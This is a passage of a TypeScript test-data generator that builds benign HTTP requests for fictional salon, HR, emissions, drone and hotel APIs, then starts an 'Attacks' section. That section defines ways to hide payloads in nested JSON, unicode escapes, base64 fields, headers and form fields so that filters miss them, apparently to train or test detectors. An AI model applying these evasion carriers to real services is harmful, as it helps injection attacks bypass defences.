      rating: pick(['exceeds', 'meets', 'partially_meets']),
      draft: true,
    }),
  }),
  () => ({
    kind: 'merge-patch',
    method: 'PATCH',
    path: `/v1/orgs/${uuid()}/targets/${uuid()}`,
    headers: jsonH('application/merge-patch+json'),
    body: JSON.stringify({
      baseYear: 2021,
      reductionPct: int(25, 55),
      boundary: 'Scope 1+2',
      notes: pick(ESG_METHOD),
      validatedBy: rand() < 0.5 ? 'SBTi' : null,
    }),
  }),
  () => ({
    kind: 'merge-patch',
    method: 'PATCH',
    path: `/makerspace/api/members/${int(10000, 99999)}`,
    headers: jsonH('application/merge-patch+json'),
    body: JSON.stringify({
      displayName: person(),
      certifications: { laser: day(), cnc: null },
      pronouns: pick(['she/her', 'he/him', 'they/them']),
    }),
  }),
  () => ({
    kind: 'merge-patch',
    method: 'PATCH',
    path: `/pricing/v3/properties/NRTSH/room-types/KING`,
    headers: jsonH('application/merge-patch+json'),
    body: JSON.stringify({
      floorPrice: Number(money(9000, 14000)),
      ceilingPrice: Number(money(40000, 80000)),
      currency: 'JPY',
      description: 'キングベッド、東京タワービュー、32㎡',
    }),
  }),
];

const jsonPatch: Array<() => Draft> = [
  () => ({
    kind: 'json-patch',
    method: 'PATCH',
    path: `/hr/api/v1/employees/${int(1000, 9999)}/goals/${uuid()}`,
    headers: jsonH('application/json-patch+json'),
    body: JSON.stringify([
      { op: 'replace', path: '/progress', value: int(0, 100) / 100 },
      { op: 'add', path: '/checkins/-', value: { date: day(), text: pick(GOALS) } },
      { op: 'test', path: '/status', value: 'active' },
    ]),
  }),
  () => ({
    kind: 'json-patch',
    method: 'PATCH',
    path: `/api/salons/${int(100, 999)}/services/${int(1, 80)}`,
    headers: jsonH('application/json-patch+json'),
    body: JSON.stringify([
      { op: 'replace', path: '/priceCents', value: int(1500, 32000) },
      { op: 'replace', path: '/name', value: pick(SALON_SERVICES) },
      { op: 'remove', path: '/promo' },
    ]),
  }),
  () => ({
    kind: 'json-patch',
    method: 'PATCH',
    path: `/v1/orgs/${uuid()}/inventory/2025`,
    headers: jsonH('application/json-patch+json'),
    body: JSON.stringify([
      {
        op: 'add',
        path: '/sites/3/sources/-',
        value: { type: 'refrigerant', gas: 'R-410A', kg: Number(money(0.5, 12)) },
      },
      { op: 'move', from: '/draftNotes', path: '/methodology/notes' },
      { op: 'replace', path: '/methodology/text', value: pick(ESG_METHOD) },
    ]),
  }),
  () => ({
    kind: 'json-patch',
    method: 'PATCH',
    path: `/v2/flight-authorizations/${uuid()}`,
    headers: jsonH('application/json-patch+json'),
    body: JSON.stringify([
      { op: 'replace', path: '/operation/start', value: stamp() },
      { op: 'copy', from: '/operation/area', path: '/contingency/area' },
      {
        op: 'add',
        path: '/attachments/-',
        value: { name: 'waiver~1letter.pdf', url: `https://files.skypermit.example/${uuid()}` },
      },
    ]),
  }),
  () => ({
    kind: 'json-patch',
    method: 'PATCH',
    path: `/pricing/v3/properties/BERMI/rules/${int(1, 99)}`,
    headers: jsonH('application/json-patch+json'),
    body: JSON.stringify([
      { op: 'replace', path: '/conditions/occupancyAbove', value: int(70, 95) },
      { op: 'replace', path: '/action/adjustPct', value: int(5, 25) },
      { op: 'replace', path: '/comment', value: pick(HOTEL_NOTES) },
    ]),
  }),
];

const jsonapi: Array<() => Draft> = [
  () => ({
    kind: 'jsonapi',
    method: 'GET',
    path: `/jsonapi/datasets?${qs({ 'filter[category]': pick(['Transportation', 'Environment', 'Public Safety', 'Housing & Development']), 'fields[datasets]': 'title,updatedAt,rowCount', include: 'publisher,tags', sort: '-updatedAt', 'page[size]': 20, 'page[number]': int(1, 6) })}`,
    headers: hdrs({}, { accept: 'application/vnd.api+json', auth: false }),
    body: '',
  }),
  () => ({
    kind: 'jsonapi',
    method: 'POST',
    path: '/jsonapi/dataset-comments',
    headers: jsonH('application/vnd.api+json', { accept: 'application/vnd.api+json' }),
    body: JSON.stringify({
      data: {
        type: 'dataset-comments',
        attributes: { body: pick(PROSE), author: person() },
        relationships: { dataset: { data: { type: 'datasets', id: pick(DATASET_IDS) } } },
      },
    }),
  }),
  () => ({
    kind: 'jsonapi',
    method: 'PATCH',
    path: `/jsonapi/equipment-bookings/${int(1, 99999)}`,
    headers: jsonH('application/vnd.api+json', { accept: 'application/vnd.api+json' }),
    body: JSON.stringify({
      data: {
        type: 'equipment-bookings',
        id: String(int(1, 99999)),
        attributes: { minutes: pick([60, 90]), notes: pick(MAKER_NOTES) },
      },
    }),
  }),
  () => ({
    kind: 'jsonapi',
    method: 'POST',
    path: '/jsonapi/peer-feedback',
    headers: jsonH('application/vnd.api+json', { accept: 'application/vnd.api+json' }),
    body: JSON.stringify({
      data: {
        type: 'peer-feedback',
        attributes: {
          anonymous: rand() < 0.6,
          keepDoing: pick(REVIEWS),
          startDoing: pick(GOALS),
          stopDoing: pick([
            'Scheduling meetings at 17:30 on Fridays.',
            'Saying "quick question" and then asking five.',
            'Nothing, honestly!',
          ]),
        },
        relationships: {
          subject: { data: { type: 'employees', id: String(int(1000, 9999)) } },
          cycle: { data: { type: 'review-cycles', id: '2026-H1' } },
        },
      },
    }),
  }),
  () => ({
    kind: 'jsonapi',
    method: 'GET',
    path: `/jsonapi/stylists?${qs({ 'filter[skills]': pick(['balayage', 'curly', 'barbering,fades', 'braids']), 'filter[salon.city]': pick(['München', 'São Paulo', 'Montréal', 'Zürich', 'Łódź']), include: 'portfolio-images' })}`,
    headers: hdrs({}, { accept: 'application/vnd.api+json' }),
    body: '',
  }),
];

function gqlPost(query: string, variables: unknown, operationName: string): Draft {
  return {
    kind: 'graphql',
    method: 'POST',
    path: '/graphql',
    headers: jsonH(),
    body: JSON.stringify({ operationName, query, variables }),
  };
}
const graphql: Array<() => Draft> = [
  () =>
    gqlPost(
      'query Slots($salonId: ID!, $date: Date!, $serviceIds: [ID!]) { salon(id: $salonId) { name timezone slots(date: $date, serviceIds: $serviceIds) { start stylist { id name } } } }',
      { salonId: String(int(100, 999)), date: day(), serviceIds: [String(int(1, 80))] },
      'Slots',
    ),
  () =>
    gqlPost(
      'mutation Book($input: BookingInput!) { createBooking(input: $input) { id status depositUrl } }',
      {
        input: {
          start: stamp(),
          serviceIds: [String(int(1, 80))],
          note: pick(SALON_NOTES),
          customer: { name: person(), email: email() },
        },
      },
      'Book',
    ),
  () =>
    gqlPost(
      'query Airspace($point: GeoPoint!, $radiusNm: Float!) { advisories(near: $point, radiusNm: $radiusNm) { kind name ceilingFt activeFrom activeTo } tfrs(near: $point) { notamId text } }',
      { point: { lat: 40 + rand(), lon: -74 - rand() }, radiusNm: int(1, 5) },
      'Airspace',
    ),
  () =>
    gqlPost(
      'mutation SubmitReview($id: ID!, $body: ReviewInput!) { submitReview(id: $id, body: $body) { id state submittedAt } }',
      {
        id: uuid(),
        body: {
          summary: pick(REVIEWS),
          rating: pick(['EXCEEDS', 'MEETS']),
          goals: [pick(GOALS), pick(GOALS)],
        },
      },
      'SubmitReview',
    ),
  () =>
    gqlPost(
      'query Emissions($org: ID!, $year: Int!) { org(id: $org) { inventory(year: $year) { scope1 scope2Market scope2Location scope3 { category tCO2e method } } } }',
      { org: uuid(), year: int(2020, 2025) },
      'Emissions',
    ),
  () => ({
    kind: 'graphql',
    method: 'GET',
    path: `/graphql?${qs({ query: `{ datasets(first: ${int(5, 50)}, category: "${pick(['Environment', 'Transportation', 'Public Safety', 'Health'])}") { edges { node { id title rowCount updatedAt } } pageInfo { hasNextPage endCursor } } }` })}`,
    headers: hdrs({}, { auth: false }),
    body: '',
  }),
  () => ({
    kind: 'graphql',
    method: 'GET',
    path: `/graphql?${qs({ operationName: 'RateGrid', variables: JSON.stringify({ property: pick(['LAXDT', 'BERMI']), from: day(), days: 14 }), extensions: JSON.stringify({ persistedQuery: { version: 1, sha256Hash: hex(64) } }) })}`,
    headers: hdrs(),
    body: '',
  }),
  () => ({
    kind: 'graphql',
    method: 'GET',
    path: `/graphql?${qs({ operationName: 'ProjectFeed', variables: JSON.stringify({ cohort: 'Wed-juniors', language: pick(['SCRATCH', 'PYTHON']), after: b64(`cursor:${int(1, 500)}`) }), extensions: JSON.stringify({ persistedQuery: { version: 1, sha256Hash: hex(64) } }) })}`,
    headers: hdrs(),
    body: '',
  }),
];

function formBody(o: Record<string, string | number>): string {
  return Object.entries(o)
    .map(([k, v]) => `${encodeURIComponent(k)}=${encodeURIComponent(String(v)).replace(/%20/g, '+')}`)
    .join('&');
}
const formH = (): Record<string, string> =>
  hdrs({
    'content-type': 'application/x-www-form-urlencoded',
    accept: 'text/html,application/xhtml+xml,application/xml;q=0.9,*/*;q=0.8',
  });
const form: Array<() => Draft> = [
  () => ({
    kind: 'form',
    method: 'POST',
    path: '/makerspace/signup',
    headers: formH(),
    body: formBody({
      name: person(),
      email: email(),
      card: `2${int(1000000000000, 9999999999999)}`,
      interests: pick(['3D printing, laser cutting', 'sewing & embroidery', 'electronics/soldering']),
      guardian: rand() < 0.3 ? person() : '',
      agree: 'on',
    }),
  }),
  () => ({
    kind: 'form',
    method: 'POST',
    path: '/salon/contact',
    headers: formH(),
    body: formBody({
      name: person(),
      phone: `(${int(200, 999)}) 555-${int(1000, 9999)}`,
      message: pick(SALON_NOTES),
      preferred: pick(['text', 'call', 'email']),
    }),
  }),
  () => ({
    kind: 'form',
    method: 'POST',
    path: '/oauth/token',
    headers: { ...formH(), authorization: `Basic ${b64(`${hex(16)}:${hex(32)}`)}` },
    body: formBody({
      grant_type: 'client_credentials',
      scope: pick([
        'flight_auth:write airspace:read',
        'telemetry:write',
        'rates:read rates:write',
        'datasets:read',
        'reviews:read goals:write',
      ]),
      client_id: `svc-${hex(8)}`,
    }),
  }),
  () => ({
    kind: 'form',
    method: 'POST',
    path: '/club/register',
    headers: formH(),
    body: formBody({
      child_name: pick(FIRST),
      age: int(7, 14),
      parent_email: email(),
      experience: pick(['none', 'some Scratch', 'Python basics', 'built a Minecraft mod!']),
      medical: pick(['', 'peanut allergy', 'asthma — inhaler in bag']),
      photo_consent: pick(['yes', 'no']),
    }),
  }),
  () => ({
    kind: 'form',
    method: 'POST',
    path: '/portal/feedback',
    headers: formH(),
    body: formBody({
      dataset: pick(DATASETS),
      rating: int(1, 5),
      comment: pick(PROSE),
      email: rand() < 0.5 ? email() : '',
    }),
  }),
];

function multipart(
  fields: Record<string, string>,
  file: { name: string; field: string; type: string; content: string },
): { ct: string; body: string } {
  const boundary = `----WebKitFormBoundary${b64(hex(12))
    .replace(/[^A-Za-z0-9]/g, '')
    .slice(0, 16)}`;
  const parts = Object.entries(fields).map(
    ([k, v]) => `--${boundary}\r\nContent-Disposition: form-data; name="${k}"\r\n\r\n${v}\r\n`,
  );
  parts.push(
    `--${boundary}\r\nContent-Disposition: form-data; name="${file.field}"; filename="${file.name}"\r\nContent-Type: ${file.type}\r\n\r\n${file.content}\r\n`,
  );
  return { ct: `multipart/form-data; boundary=${boundary}`, body: `${parts.join('')}--${boundary}--\r\n` };
}
const multiparts: Array<() => Draft> = [
  () => {
    const m = multipart(
      { bookingId: uuid(), caption: 'inspo pic — want this colour but a bit less ashy' },
      {
        name: pick(['IMG_4412.HEIC', 'balayage-inspo.jpg', 'screenshot 2026-03-01 at 10.22.jpg']),
        field: 'photo',
        type: 'image/jpeg',
        content: `\u00ff\u00d8\u00ff\u00e0JFIF${hex(24)}`,
      },
    );
    return {
      kind: 'multipart',
      method: 'POST',
      path: '/api/bookings/attachments',
      headers: hdrs({ 'content-type': m.ct }),
      body: m.body,
    };
  },
  () => {
    const rows = [
      'site,period,activity,quantity,unit',
      ...Array.from(
        { length: int(3, 7) },
        () =>
          `${pick(['"Lyon, FR"', 'Austin HQ', 'Rotterdam DC'])},2025-${pad(int(1, 12))},${pick(['electricity', 'diesel', 'natural_gas'])},${money(100, 50000)},${pick(['kWh', 'L', 'm3'])}`,
      ),
    ];
    const m = multipart(
      { orgId: uuid(), dryRun: 'true' },
      { name: 'activity_2025_Q3.csv', field: 'file', type: 'text/csv', content: rows.join('\n') },
    );
    return {
      kind: 'multipart',
      method: 'POST',
      path: '/v1/imports/activity-data',
      headers: hdrs({ 'content-type': m.ct }),
      body: m.body,
    };
  },
  () => {
    const m = multipart(
      { equipment: 'Glowforge Pro laser cutter', material: '3mm birch ply' },
      {
        name: 'puzzle-box.svg',
        field: 'design',
        type: 'image/svg+xml',
        content:
          '<svg xmlns="http://www.w3.org/2000/svg" width="200mm" height="120mm" viewBox="0 0 200 120"><rect x="5" y="5" width="60" height="40" fill="none" stroke="#ff0000" stroke-width="0.1"/><path d="M70 5 h60 v40 h-60 z" fill="none" stroke="#0000ff"/></svg>',
      },
    );
    return {
      kind: 'multipart',
      method: 'POST',
      path: '/makerspace/api/files',
      headers: hdrs({ 'content-type': m.ct }),
      body: m.body,
    };
  },
  () => {
    const m = multipart(
      {
        projectTitle: pick(['Space Cat Adventure', 'Maze Runner v2', 'Pong but with ducks']),
        language: 'scratch',
      },
      {
        name: 'project.sb3',
        field: 'project',
        type: 'application/x.scratch.sb3',
        content: `PK\u0003\u0004${hex(40)}project.json`,
      },
    );
    return {
      kind: 'multipart',
      method: 'POST',
      path: '/club/api/projects/upload',
      headers: hdrs({ 'content-type': m.ct }),
      body: m.body,
    };
  },
  () => {
    const m = multipart(
      { authorizationId: uuid(), docType: 'insurance_certificate' },
      {
        name: `COI_${pick(LAST).replace(/[^A-Za-z]/g, '')}_2026.pdf`,
        field: 'document',
        type: 'application/pdf',
        content: `%PDF-1.7\n1 0 obj << /Type /Catalog /Pages 2 0 R >> endobj\n${hex(32)}`,
      },
    );
    return {
      kind: 'multipart',
      method: 'POST',
      path: '/v2/documents',
      headers: hdrs({ 'content-type': m.ct }),
      body: m.body,
    };
  },
];

const ndjson: Array<() => Draft> = [
  () => ({
    kind: 'ndjson',
    method: 'POST',
    path: '/v2/telemetry/batch',
    headers: jsonH('application/x-ndjson'),
    body: `${Array.from({ length: int(3, 8) }, () => JSON.stringify({ remoteId: `1581F${hex(10).toUpperCase()}`, ts: stamp(), lat: 37 + rand(), lon: -122 - rand(), altM: int(5, 120), speedMs: Number((rand() * 15).toFixed(1)), battery: int(20, 100) })).join('\n')}\n`,
  }),
  () => ({
    kind: 'ndjson',
    method: 'POST',
    path: '/pricing/v3/ingest/competitor-rates',
    headers: jsonH('application/x-ndjson'),
    body: `${Array.from({ length: int(3, 6) }, () => JSON.stringify({ competitor: pick(['Hotel Adlon', 'The Standard', 'Hilton Garden Inn', 'Motel One']), date: day(), los: 1, rate: Number(money(89, 450)), currency: 'EUR', soldOut: rand() < 0.1 })).join('\n')}\n`,
  }),
  () => ({
    kind: 'ndjson',
    method: 'POST',
    path: '/portal/api/datasets/bike-counters/append',
    headers: jsonH('application/x-ndjson'),
    body: `${Array.from({ length: int(4, 8) }, () => JSON.stringify({ station_id: `BC-${int(1, 60)}`, ts: stamp(), direction: pick(['N', 'S', 'E', 'W']), count: int(0, 300) })).join('\n')}\n`,
  }),
  () => ({
    kind: 'ndjson',
    method: 'POST',
    path: '/hr/api/v1/audit-events',
    headers: jsonH('application/x-ndjson'),
    body: `${Array.from({ length: int(2, 5) }, () => JSON.stringify({ at: stamp(), actor: email(), action: pick(['review.viewed', 'review.edited', 'goal.created', 'calibration.exported']), target: uuid() })).join('\n')}\n`,
  }),
];

const deletes: Array<() => Draft> = [
  () => ({
    kind: 'delete',
    method: 'DELETE',
    path: `/api/bookings/${uuid()}?${qs({ reason: pick(['customer_request', 'no_show', 'illness']), notify: 'sms' })}`,
    headers: hdrs(),
    body: '',
  }),
  () => ({
    kind: 'delete',
    method: 'DELETE',
    path: `/v2/flight-authorizations/${uuid()}`,
    headers: hdrs(),
    body: '',
  }),
  () => ({
    kind: 'delete',
    method: 'DELETE',
    path: `/makerspace/api/bookings/${int(1, 99999)}`,
    headers: hdrs(),
    body: '',
  }),
  () => ({
    kind: 'delete',
    method: 'DELETE',
    path: `/pricing/v3/properties/LAXDT/overrides/${day()}`,
    headers: hdrs(),
    body: '',
  }),
  () => ({
    kind: 'delete',
    method: 'DELETE',
    path: `/hr/api/v1/goals/${uuid()}`,
    headers: jsonH(),
    body: JSON.stringify({
      reason: pick([
        'Duplicate of the Q2 goal.',
        'No longer relevant after the re-org.',
        "Merged into 'Reduce p95 latency'.",
      ]),
    }),
  }),
  () => ({
    kind: 'delete',
    method: 'DELETE',
    path: `/club/api/projects/${uuid()}/comments/${int(1, 9999)}`,
    headers: hdrs(),
    body: '',
  }),
];

const HTML_BLOCKS = [
  '<h2>Spring colour menu 🌸</h2><p>Book a <strong>balayage</strong> before <em>30 April</em> and get a free gloss. <a href="https://sheartime.example/book?promo=SPRING26" target="_blank" rel="noopener">Book now</a></p>',
  '<p>Our methodology follows the <a href="https://ghgprotocol.org/corporate-standard">GHG Protocol Corporate Standard</a>.</p><table><thead><tr><th>Scope</th><th>tCO<sub>2</sub>e</th></tr></thead><tbody><tr><td>1</td><td>4,210</td></tr><tr><td>2 (market)</td><td>1,980</td></tr></tbody></table>',
  '<h3>Laser cutter rules</h3><ol><li>Never leave the cutter unattended.</li><li>No PVC, vinyl or anything containing chlorine.</li><li>Keep the lid closed &amp; the fan on.</li></ol><p><img src="/media/laser-safety.png" alt="Laser safety poster" width="480"></p>',
  '<blockquote><p>“The best way to predict the future is to invent it.” — Alan Kay</p></blockquote><p>This week the juniors built <code>if/else</code> games. Photos below 👇</p><figure><img src="https://cdn.codeclub.example/w12/group.jpg" alt="Kids showing laptops"><figcaption>Wednesday juniors</figcaption></figure>',
  '<p>New dataset: <b>Street trees 2026</b> — 184,302 rows, updated nightly.</p><ul><li>CSV</li><li>GeoJSON</li><li>API (<code>/resource/tr33-s1te.json</code>)</li></ul>',
  '<h2>Guest policies</h2><p>Check-in from 15:00, check-out until 11:00. Late check-out subject to availability (€25/h).</p><p style="color:#555;font-size:12px">Tourist tax of 5% is charged on arrival.</p>',
  '<p>Before flying near the stadium, read the <a href="https://www.faa.gov/uas">FAA UAS page</a> and check <span class="badge">TFR</span> notices.</p><details><summary>What is LAANC?</summary><p>Low Altitude Authorization and Notification Capability.</p></details>',
  '<div class="callout"><p><strong>Reminder:</strong> self-reviews are due <time datetime="2026-06-15">June 15</time>. Use the <abbr title="Situation, Behaviour, Impact">SBI</abbr> model.</p></div>',
];
const cmsHtml: Array<() => Draft> = [
  () => ({
    kind: 'cms-html',
    method: 'PUT',
    path: `/cms/api/pages/${pick(['spring-promo', 'methodology', 'laser-rules', 'club-news-w12', 'new-datasets', 'guest-policies', 'laanc-faq', 'review-season'])}`,
    headers: jsonH(),
    body: JSON.stringify({
      page: {
        title: pick([
          'Spring promo',
          'Methodology',
          'Makerspace rules',
          'Club news',
          "What's new",
          'Policies',
        ]),
        slug: `p-${hex(6)}`,
        bodyHtml: `${pick(HTML_BLOCKS)}${rand() < 0.5 ? pick(HTML_BLOCKS) : ''}`,
        locale: pick(['en', 'de', 'fr', 'ja']),
        publishAt: stamp(),
      },
      author: email(),
    }),
  }),
  () => ({
    kind: 'cms-html',
    method: 'POST',
    path: '/cms/api/pages',
    headers: jsonH(),
    body: JSON.stringify({
      page: {
        title: pick(['Nuevos talleres', 'Weekly newsletter', 'Holiday hours']),
        slug: `n-${hex(6)}`,
        bodyHtml: `<p>${pick(PROSE).replace(/&/g, '&amp;').replace(/</g, '&lt;')}</p>${pick(HTML_BLOCKS)}`,
      },
      tags: ['newsletter'],
    }),
  }),
];

const PY_SNIPPETS = [
  'import turtle\n\nt = turtle.Turtle()\nfor i in range(36):\n    t.forward(100)\n    t.left(170)\nturtle.done()\n',
  'name = input("What is your name? ")\nage = int(input("How old are you? "))\nprint(f"Hi {name}! In 10 years you will be {age + 10}.")\n',
  'import random\n\nsecret = random.randint(1, 100)\nguess = None\nwhile guess != secret:\n    guess = int(input("Guess: "))\n    if guess < secret:\n        print("Too low")\n    elif guess > secret:\n        print("Too high")\nprint("You got it!")\n',
  'from microbit import *\n\nwhile True:\n    if button_a.is_pressed():\n        display.show(Image.HAPPY)\n    else:\n        display.scroll("hi")\n',
  'def fizzbuzz(n):\n    for i in range(1, n + 1):\n        out = ""\n        if i % 3 == 0: out += "Fizz"\n        if i % 5 == 0: out += "Buzz"\n        print(out or i)\n\nfizzbuzz(30)\n',
  'import os\nimport subprocess\n\n# list files in my project folder (mentor said this is ok on my own laptop)\nfor f in os.listdir("."):\n    print(f)\nsubprocess.run(["python", "game.py"])\n',
  '<!DOCTYPE html>\n<html>\n<head><title>My cat page</title>\n<script>\nfunction meow() { document.getElementById("out").innerText = "Meow!"; }\n</script></head>\n<body><button onclick="meow()">Click me</button><p id="out"></p></body>\n</html>\n',
];
const NB_SNIPPETS = [
  "import pandas as pd\n\ndf = pd.read_csv('activity_2025.csv')\ndf['tco2e'] = df['quantity'] * df['factor'] / 1000\nsummary = df.groupby(['scope', 'site'])['tco2e'].sum().reset_index()\nsummary.sort_values('tco2e', ascending=False).head(10)\n",
  "SELECT site, SUM(quantity * factor) / 1000 AS tco2e\nFROM activity a\nJOIN factors f ON f.activity = a.activity AND f.year = 2025\nWHERE a.period BETWEEN '2025-01' AND '2025-12'\nGROUP BY site\nORDER BY tco2e DESC;\n",
  "# occupancy vs ADR elasticity\nimport numpy as np\nx = np.log(df.adr)\ny = np.log(df.occ)\nslope, intercept = np.polyfit(x, y, 1)\nprint(f'elasticity ≈ {slope:.2f}')\n",
  'pricing:\n  property: BERMI\n  rules:\n    - when: occupancy > 0.85\n      adjust: +12%\n    - when: days_to_arrival < 3 and occupancy < 0.5\n      adjust: -15%\n  floor: 89\n  ceiling: 420\n',
  '#!/usr/bin/env bash\nset -euo pipefail\n# nightly export of the street tree dataset\ncurl -sSf "https://data.city.example/api/views/tr33-s1te/rows.csv?accessType=DOWNLOAD" -o trees.csv\nwc -l trees.csv\n',
  'const total = rows.reduce((acc, r) => acc + r.kwh * r.factor, 0);\nconsole.log(`Scope 2: ${(total / 1000).toFixed(1)} tCO2e`);\n',
];
const code: Array<() => Draft> = [
  () => ({
    kind: 'code',
    method: 'POST',
    path: '/club/api/submissions',
    headers: jsonH(),
    body: JSON.stringify({
      submission: {
        projectId: uuid(),
        language: 'python',
        filename: pick(['main.py', 'game.py', 'turtle_art.py', 'index.html']),
        sourceCode: pick(PY_SNIPPETS),
      },
      student: { firstName: pick(FIRST), cohort: 'Wed-juniors' },
      askMentor: pick([
        'Why does my turtle go off the screen?',
        'It says IndentationError??',
        'Can I add sound?',
        '',
      ]),
    }),
  }),
  () => ({
    kind: 'code',
    method: 'PUT',
    path: `/v1/notebooks/${uuid()}/cells/${int(1, 30)}`,
    headers: jsonH(),
    body: JSON.stringify({
      notebook: {
        cellType: 'code',
        language: pick(['python', 'sql', 'yaml', 'bash', 'javascript']),
        cellSource: pick(NB_SNIPPETS),
      },
      lastEditedBy: email(),
    }),
  }),
];

const prose: Array<() => Draft> = [
  () => ({
    kind: 'prose',
    method: 'POST',
    path: `/api/salons/${int(100, 999)}/reviews`,
    headers: jsonH(),
    body: JSON.stringify({
      rating: int(3, 5),
      title: pick(['Loved it', 'Great fade', 'Nice but slow', 'Wow!!', 'Très bien']),
      text: pick(PROSE),
      visitDate: day(),
    }),
  }),
  () => ({
    kind: 'prose',
    method: 'POST',
    path: '/hr/api/v1/self-reviews',
    headers: jsonH(),
    body: JSON.stringify({
      cycle: '2026-H1',
      accomplishments: `${pick(REVIEWS)}\n\n${pick(PROSE)}`,
      challenges: pick(PROSE),
      nextGoals: [pick(GOALS), pick(GOALS)],
    }),
  }),
  () => ({
    kind: 'prose',
    method: 'POST',
    path: '/portal/api/discussions',
    headers: jsonH(),
    body: JSON.stringify({
      dataset: pick(DATASET_IDS),
      subject: pick(['Missing values?', 'Join key question', 'Thanks!', 'Data is stale']),
      message: `${pick(PROSE)}\n\n— ${person()}`,
    }),
  }),
  () => ({
    kind: 'prose',
    method: 'POST',
    path: '/makerspace/api/feedback',
    headers: jsonH(),
    body: JSON.stringify({ visit: day(), message: pick(PROSE), contactMe: rand() < 0.5 }),
  }),
];

const SEARCH_TERMS = [
  'balayage near me',
  'curly hair specialist',
  'box braids price',
  "men's fade + beard",
  'laser cutter plywood',
  '3d printer petg',
  'embroidery hoop',
  'scope 3 category 1',
  'refrigerant leak R-410A',
  'district heating factor',
  'tree species maple',
  'noise complaints 2025',
  'parking tickets "5th Ave"',
  'python turtle spiral',
  'scratch platformer',
  'microbit compass',
  'promotion criteria senior',
  'review template SBI',
  'drone night waiver',
  'TFR stadium',
  'ADR RevPAR forecast',
  'select all drop-off points',
  'union square hotels',
  'café wi-fi',
  'naïve résumé',
  'Straße Bäume',
  '東京 美容院',
  'крипто',
  'ciclovías Bogotá',
  '"C++" beginner',
  "O'Hare airspace",
  '50% off',
  'kg CO2e / m²',
  '#hashtag test',
  'a&b co-op',
];
const search: Array<() => Draft> = [
  () => ({
    kind: 'search',
    method: 'GET',
    path: `/api/search?${qs({ q: pick(SEARCH_TERMS), page: int(1, 4) })}`,
    headers: hdrs(),
    body: '',
  }),
  () => ({
    kind: 'search',
    method: 'GET',
    path: `/portal/search?${qs({ q: pick(SEARCH_TERMS), category: pick(['all', 'Environment', 'Transportation']), sort: pick(['relevance', 'updated']) })}`,
    headers: hdrs({}, { auth: false, accept: 'text/html' }),
    body: '',
  }),
  () => ({
    kind: 'search',
    method: 'GET',
    path: `/makerspace/api/equipment/search?${qs({ q: pick(SEARCH_TERMS), available: 'true', branch: pick(['central', 'río-vista']) })}`,
    headers: hdrs(),
    body: '',
  }),
  () => ({
    kind: 'search',
    method: 'GET',
    path: `/hr/api/v1/search?${qs({ q: pick(SEARCH_TERMS), type: pick(['employee', 'goal', 'review']) })}`,
    headers: hdrs(),
    body: '',
  }),
  () => ({
    kind: 'search',
    method: 'GET',
    path: `/club/api/search?q=${encodeURIComponent(pick(SEARCH_TERMS)).replace(/%20/g, '+')}&lang=${pick(['python', 'scratch'])}`,
    headers: hdrs(),
    body: '',
  }),
];

const CLEAN_PLAN: Array<[Array<() => Draft>, number]> = [
  [restGet, 36],
  [restWrite, 34],
  [mergePatch, 28],
  [jsonPatch, 28],
  [jsonapi, 28],
  [graphql, 32],
  [form, 28],
  [multiparts, 26],
  [ndjson, 24],
  [deletes, 24],
  [cmsHtml, 30],
  [code, 30],
  [prose, 36],
  [search, 36],
];
for (const [builders, n] of CLEAN_PLAN) {
  for (let i = 0; i < n; i++) {
    const b = builders[i % builders.length];
    if (b) addClean(b());
  }
}

// ---------------------------------------------------------------------------------------------------------
// Attacks
// ---------------------------------------------------------------------------------------------------------

type Payload = readonly [technique: string, payload: string];

/** Escape characters of a JSON string literal body as \uXXXX (what an evasive client can send). */
function uEscape(s: string, chars: RegExp): string {
  return Array.from(s, (c) =>
    chars.test(c) ? `\\u${c.charCodeAt(0).toString(16).padStart(4, '0')}` : JSON.stringify(c).slice(1, -1),
  ).join('');
}
/** Serialise obj, then swap the placeholder string for a hand-escaped literal. */
function withRaw(obj: unknown, raw: string): string {
  return JSON.stringify(obj).replace('"@@SLOT@@"', `"${raw}"`);
}
const SLOT = '@@SLOT@@';

type Carrier = readonly [name: string, build: (p: string, field: string) => Draft];
const CARRIERS: readonly Carrier[] = [
  [
    'nested JSON field',
    (p, f) => ({
      kind: 'rest-write',
      method: 'POST',
      path: `/api/salons/${int(100, 999)}/bookings`,
      headers: jsonH(),
      body: JSON.stringify({
        customer: { name: person(), email: email(), preferences: { [f]: p, language: 'en' } },
        services: [pick(SALON_SERVICES)],
        start: stamp(),
      }),
    }),
  ],
  [
    'JSON array element',
    (p) => ({
      kind: 'rest-write',
      method: 'PUT',
      path: `/makerspace/api/members/${int(10000, 99999)}/projects/${int(1, 999)}`,
      headers: jsonH(),
      body: JSON.stringify({
        title: pick(['Puzzle box', 'LED sign', 'Robot arm']),
        tags: ['laser', p, 'wood'],
        materials: [{ name: 'birch ply', qty: 2 }],
      }),
    }),
  ],
  [
    'unicode-escaped JSON string',
    (p, f) => ({
      kind: 'rest-write',
      method: 'POST',
      path: '/v2/flight-authorizations',
      headers: jsonH(),
      body: withRaw(
        {
          operator: { id: `FA${hex(8).toUpperCase()}`, name: person() },
          operation: { start: stamp(), maxAltitudeFt: 200 },
          [f]: SLOT,
        },
        uEscape(p, /[<>'"$(){}/.:;|&`=\\ -]/),
      ),
    }),
  ],
  [
    'JSON document inside a string field',
    (p, f) => ({
      kind: 'rest-write',
      method: 'POST',
      path: `/v1/orgs/${uuid()}/activity-data`,
      headers: jsonH(),
      body: JSON.stringify({
        site: 'Lyon plant',
        period: '2025-09',
        quantity: 1200,
        unit: 'kWh',
        metadata: JSON.stringify({ importer: 'sheet-v2', [f]: p }),
      }),
    }),
  ],
  [
    'base64 field decoded by the API',
    (p, f) => ({
      kind: 'rest-write',
      method: 'POST',
      path: '/club/api/submissions',
      headers: jsonH(),
      body: JSON.stringify({
        projectId: uuid(),
        encoding: 'base64',
        [`${f}B64`]: b64(p),
        student: { firstName: pick(FIRST) },
      }),
    }),
  ],
  ['GraphQL variables', (p, f) => gqlAttack(p, f)],
  [
    'query string',
    (p, f) => ({
      kind: 'rest-get',
      method: 'GET',
      path: `/hr/api/v1/employees?${qs({ [f]: p, page: 1 })}`,
      headers: hdrs(),
      body: '',
    }),
  ],
  [
    'request header',
    (p, f) => ({
      kind: 'rest-get',
      method: 'GET',
      path: `/pricing/v3/properties/LAXDT/rates?${qs({ arrival: day(), los: 2 })}`,
      headers: hdrs({ [pick(['x-client-context', 'x-debug-trace', 'referer'])]: `${f}=${p}` }),
      body: '',
    }),
  ],
  [
    'form field',
    (p, f) => ({
      kind: 'form',
      method: 'POST',
      path: '/salon/contact',
      headers: formH(),
      body: formBody({ name: person(), [f]: p, preferred: 'email' }),
    }),
  ],
  [
